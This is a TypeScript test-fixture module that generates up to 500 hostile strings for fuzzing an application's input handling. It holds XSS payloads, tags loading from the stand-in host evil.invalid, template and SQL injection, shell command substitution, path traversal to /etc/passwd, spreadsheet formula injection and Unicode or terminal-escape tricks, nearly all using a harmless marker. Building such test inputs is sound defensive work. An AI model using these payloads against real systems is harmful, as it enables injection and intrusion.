/**
 * Texts that a stranger may put anywhere: markup, code in every quote, addresses that run, templates, formulas, marks that turn text,
 * what terminals and parsers obey, and very long ones. `marker` is what code would leave behind if it ran.
 */
export const marker = '__pwned';
const run = `window.${marker}=1`;

const handlers = ['onerror', 'onload', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle'];
const markup = [
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`,
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<svg onload=${run}>`,
  `<svg><script href=data:,${run} />`,
  `<math><mi xlink:href=javascript:${run}>x</mi></math>`,
  `<iframe srcdoc="<script>parent.${marker}=1</script>">`,
  `<iframe src=javascript:${run}>`,
  `<object data=javascript:${run}>`,
  `<embed src=javascript:${run}>`,
  `<base href=//evil.invalid/>`,
  `<meta http-equiv=refresh content=0;url=//evil.invalid/>`,
  `<link rel=stylesheet href=//evil.invalid/x.css>`,
  `<link rel=prefetch href=http://evil.invalid/>`,
  `<style>@import '//evil.invalid/x.css';*{display:none}</style>`,
  `<img src=http://evil.invalid/pixel>`,
  `<a href=javascript:${run} autofocus>x</a>`,
  `<form action=//evil.invalid><input name=a autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  ...handlers.map(name => `" ${name}=${run} x="`),
  ...handlers.map(name => `' ${name}=${run} x='`),
  ...handlers.map(name => `\` ${name}=${run} x=\``),
];
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:image/svg+xml,<svg onload=${run}>`,
  'file:///etc/passwd',
  'app://ui/index.html',
  'blob:app://ui/x',
  '//evil.invalid/x',
  'http://evil.invalid/x',
  'chrome://settings',
  'view-source:http://evil.invalid',
];
const code = [
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `{{7*7}}`,
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"polluted":1}}',
  `';${run};//`,
  `";${run};//`,
  `\\";${run};//`,
  `\u2028${run}\u2029`,
  `');DROP TABLE url;--`,
  `' OR '1'='1`,
  '%s%s%n%x',
  '$(touch /tmp/pwned)',
  '`touch /tmp/pwned`',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  'CON',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
];
const turning = [
  'a\u202egnp.exe',
  '\u2066abc\u2069',
  '\u2067\u202e\u202d',
  'a\u200bb\u200c\u200d',
  '\ufeffx',
  'x\u00ad\u2060y',
  '\u061cx',
  '\u{e0041}\u{e0042}',
  'שלום (abc) 123',
  'مرحبا <b>',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘',
  '\u0007\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u0000nul\u0000',
  'line\nbreak\r\nand\ttab',
  '\u0085\u000b\u000c',
  '\ud83d\ude00'.repeat(40),
  '\u3000'.repeat(60),
  '𝕬𝖇𝖈',
  'ﷺ'.repeat(50),
];
const long = [
  'A'.repeat(2_000),
  `${'<b>'.repeat(700)}`,
  `${'\n'.repeat(300)}x`,
  `${'word '.repeat(500)}`,
  `${'\u202e'.repeat(300)}`,
  '&'.repeat(1_000),
];
const kinds = [...markup, ...addresses, ...code, ...turning, ...long];
/** What stands around a text; the first leaves it as it is. */
const around: readonly ((text: string) => string)[] = [
  text => text,
  text => `Offer ${text} today`,
  text => `"${text}"`,
  text => text.toUpperCase().replaceAll('WINDOW.__PWNED', `window.${marker}`),
  text => `<!-- ${text}`,
];

/** `count` different texts (500 are there), each kind before any kind with something around it. */
export const hostileTexts = (count = 500): readonly string[] => {
  const all = around.flatMap(wrap => kinds.map(wrap));
  const different = [...new Set(all)];
  if (different.length < count) throw new Error(`there are only ${different.length} texts`);
  return different.slice(0, count);
};
